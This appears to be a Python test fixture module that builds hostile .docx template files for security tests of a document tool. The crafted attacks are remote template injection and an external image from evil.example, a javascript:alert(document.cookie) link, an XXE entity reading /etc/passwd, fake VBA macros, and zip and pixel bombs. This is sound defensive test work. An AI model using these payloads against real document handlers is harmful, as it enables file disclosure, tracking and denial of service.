"""Hostile ``--template`` files, built from incas's own reference document.

``letterhead`` makes an honest one (a header with a small local logo, a footer with a web
link); the other builders add one attack each to it, as the audit of issue 18 found them.
"""

from __future__ import annotations

import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from docx import Document as open_document

from incas_cli.writers.template import reference_bytes

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EVIL = "http://evil.example"
RELS_HEAD = (
    "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\n"
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
)


def png(width: int, height: int, *, data: bool = True) -> bytes:
    """A grey PNG of that size (``data=False``: the header only, as a lying file has)."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    rows = b"".join(b"\x00" + b"\x80" * width for _ in range(height)) if data else b""
    pixels = chunk(b"IDAT", zlib.compress(rows)) if data else b""
    return b"\x89PNG\r\n\x1a\n" + header + pixels + chunk(b"IEND", b"")


def letterhead(path: Path) -> Path:
    """A letterhead: a header with a 40×20 logo, a footer with the Comune's web site."""
    import io

    document = open_document(io.BytesIO(reference_bytes()))
    section = document.sections[0]
    section.header.paragraphs[0].add_run("Comune di Prova ").add_picture(io.BytesIO(png(40, 20)))
    section.footer.paragraphs[0].add_run("Sito del Comune")
    document.save(str(path))
    return edit(path, _footer_link("rIdWeb", "https://www.comune.example.it", "www"))


Edit = Callable[[dict[str, bytes]], None]


def edit(path: Path, *edits: Edit) -> Path:
    """Rewrite the package at ``path`` with ``edits`` applied to its parts (name -> bytes)."""
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    for change in edits:
        change(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            package.writestr(name, data)
    return path


def _add_rel(parts: dict[str, bytes], rels: str, rel: str) -> None:
    text = parts.get(rels, (RELS_HEAD + "</Relationships>").encode()).decode()
    parts[rels] = text.replace("</Relationships>", rel + "</Relationships>").encode()


def _part_named(parts: dict[str, bytes], pattern: str) -> str:
    return next(name for name in parts if re.fullmatch(pattern, name))


def _footer_link(rid: str, target: str, text: str) -> Edit:
    def change(parts: dict[str, bytes]) -> None:
        footer = _part_named(parts, r"word/footer\d*\.xml")
        rels = footer.replace("word/", "word/_rels/") + ".rels"
        _add_rel(
            parts,
            rels,
            f'<Relationship Id="{rid}" Type="{R}/hyperlink" Target="{target}" '
            'TargetMode="External"/>',
        )
        link = f'<w:hyperlink r:id="{rid}"><w:r><w:t>{text}</w:t></w:r></w:hyperlink></w:p>'
        parts[footer] = parts[footer].decode().replace("</w:p>", link, 1).encode()

    return change


def with_macros(parts: dict[str, bytes]) -> None:
    """A VBA project, as a .docm carries it."""
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 vba project " * 100
    _add_rel(
        parts,
        "word/_rels/document.xml.rels",
        '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="vbaProject.bin"/>',
    )
    vba = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    types = parts["[Content_Types].xml"].decode()
    types = types.replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "vnd.ms-word.document.macroEnabled.main+xml",
    ).replace("<Default ", vba + "<Default ", 1)
    parts["[Content_Types].xml"] = types.encode()


def with_remote_template(parts: dict[str, bytes]) -> None:
    """settings.xml attaches a template fetched from a web server."""
    settings = parts["word/settings.xml"].decode()
    settings = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings)
    parts["word/settings.xml"] = settings.encode()
    _add_rel(
        parts,
        "word/_rels/settings.xml.rels",
        f'<Relationship Id="rIdTpl" Type="{R}/attachedTemplate" Target="{EVIL}/t.dotm" '
        'TargetMode="External"/>',
    )


def with_external_image(parts: dict[str, bytes]) -> None:
    """A second picture in the header, linked from a web server instead of embedded."""
    header = _part_named(parts, r"word/header\d*\.xml")
    text = parts[header].decode()
    drawing = re.search(r"<w:drawing>.*?</w:drawing>", text, re.S)
    assert drawing is not None
    remote = re.sub(r'r:embed="[^"]+"', 'r:link="rIdRemote"', drawing.group(0))
    parts[header] = text.replace("</w:p>", f"<w:r>{remote}</w:r></w:p>", 1).encode()
    _add_rel(
        parts,
        header.replace("word/", "word/_rels/") + ".rels",
        f'<Relationship Id="rIdRemote" Type="{R}/image" Target="{EVIL}/pixel.png" '
        'TargetMode="External"/>',
    )


with_script_link = _footer_link("rIdJs", "javascript:alert(document.cookie)", "clicca")


def with_entity(parts: dict[str, bytes]) -> None:
    """styles.xml declares an external entity and uses it in a style name."""
    styles = parts["word/styles.xml"].decode()
    styles = styles.replace(
        "?>", '?>\n<!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 1
    )
    styles = re.sub(r'(<w:name w:val=")([^"]*)(")', r"\1\2&xxe;\3", styles, count=1)
    parts["word/styles.xml"] = styles.encode()


def with_huge_image(parts: dict[str, bytes]) -> None:
    """The header's logo claims 30,000 × 30,000 pixels (900 megapixels)."""
    image = _part_named(parts, r"word/media/image\d+\.png")
    parts[image] = png(30_000, 30_000, data=False)


def bomb(path: Path, *, gigabytes: float = 1.0) -> Path:
    """A letterhead whose styles.xml unzips to ``gigabytes`` GiB (about 1 MB zipped)."""
    letterhead(path)
    with zipfile.ZipFile(path) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in parts.items():
            if name != "word/styles.xml":
                package.writestr(name, data)
        with package.open("word/styles.xml", "w", force_zip64=True) as stream:
            stream.write(parts["word/styles.xml"][:-20])
            block = b" " * 2**20
            for _ in range(int(gigabytes * 1024)):
                stream.write(block)
    return path


def oversized(path: Path, megabytes: int = 25) -> Path:
    """A letterhead carrying ``megabytes`` MB of incompressible data."""
    import os

    letterhead(path)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as package:
        package.writestr("word/media/extra.bin", os.urandom(megabytes * 2**20))
    return path
